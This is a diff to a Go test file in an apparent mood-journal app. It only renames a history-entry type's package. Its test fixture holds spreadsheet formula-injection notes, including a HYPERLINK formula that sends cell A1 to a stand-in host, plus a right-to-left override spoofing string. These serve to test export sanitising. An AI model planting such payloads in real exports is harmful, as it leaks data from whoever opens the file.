@@ -15,21 +15,21 @@ import (
 
 	"jeda/internal/export"
 	"jeda/internal/i18n"
+	"jeda/internal/journal"
 	"jeda/internal/realclient"
-	"jeda/internal/render"
 	"jeda/internal/score"
 )
 
 // hostile is WHO-5 results whose notes a spreadsheet would run as formulas, one whose
 // note has a newline, and one with a right-to-left override.
-func hostile(t *testing.T) []render.HistoryEntry {
+func hostile(t *testing.T) []journal.HistoryEntry {
 	notes := []string{
 		`=HYPERLINK("http://example.invalid/?x="&A1;"klik di sini")`,
 		"+1+1", "-2+3", "@SUM(1;1)", "\t=1+1", "\r=1+1",
 		"baris satu\nbaris dua",
 		"gaji \u202Ereveal\u202C selesai",
 	}
-	var out []render.HistoryEntry
+	var out []journal.HistoryEntry
 	for i, n := range notes {
 		at := time.Date(2026, 11, 22, 8, i, 0, 0, wib)
 		out = append(out, entry(t, "01a20ff1-0000-7000-8000-00000000010"+strconv.Itoa(i), "who5", at,
